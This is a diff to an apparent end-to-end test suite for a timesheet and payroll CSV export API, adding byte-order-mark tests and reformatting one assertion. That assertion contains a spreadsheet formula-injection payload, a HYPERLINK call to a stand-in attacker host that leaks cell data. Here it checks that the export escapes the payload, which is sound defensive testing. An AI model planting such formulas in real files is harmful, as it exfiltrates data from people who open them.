@@ -455,12 +455,25 @@ describe('timesheets, corrections and payroll export (e2e, controllable clock)',
         const raw = await again.text();
         const [row] = parse<Record<string, string>>(raw, { columns: true });
         expect(row.worker_name).toBe(`'${hostile}`);
-        expect(raw).toContain(
-          `,"'=HYPERLINK(""http://evil.test/?""&A1,""Pay here""), @SUM(1)",`,
-        );
+        expect(raw).toContain(`,"'=HYPERLINK(""http://evil.test/?""&A1,""Pay here""), @SUM(1)",`);
       } finally {
         expect((await rename('Sita Devi')).status).toBe(200);
       }
+
+      // for Excel on Windows: a byte order mark first, when asked (and only then)
+      const withBom = await fetch(
+        `${t.baseUrl}/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-01&to=2026-03-10&bom=true`,
+        { headers: { 'x-api-key': t.keys.auditor } },
+      );
+      const bytes = Buffer.from(await withBom.arrayBuffer());
+      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      expect(bytes.subarray(3).toString('utf8')).toBe(text);
+      expect(text.charCodeAt(0)).toBe('w'.charCodeAt(0));
+      const badBom = await get(
+        `/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-01&to=2026-03-10&bom=yes`,
+        t.keys.auditor,
+      );
+      expect([badBom.status, badBom.body.code]).toEqual([400, 'validation_failed']);
 
       const signedPath = `/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-01&to=2026-03-10`;
       const thekedarCsv = await http(t.baseUrl, 'GET', signedPath, {
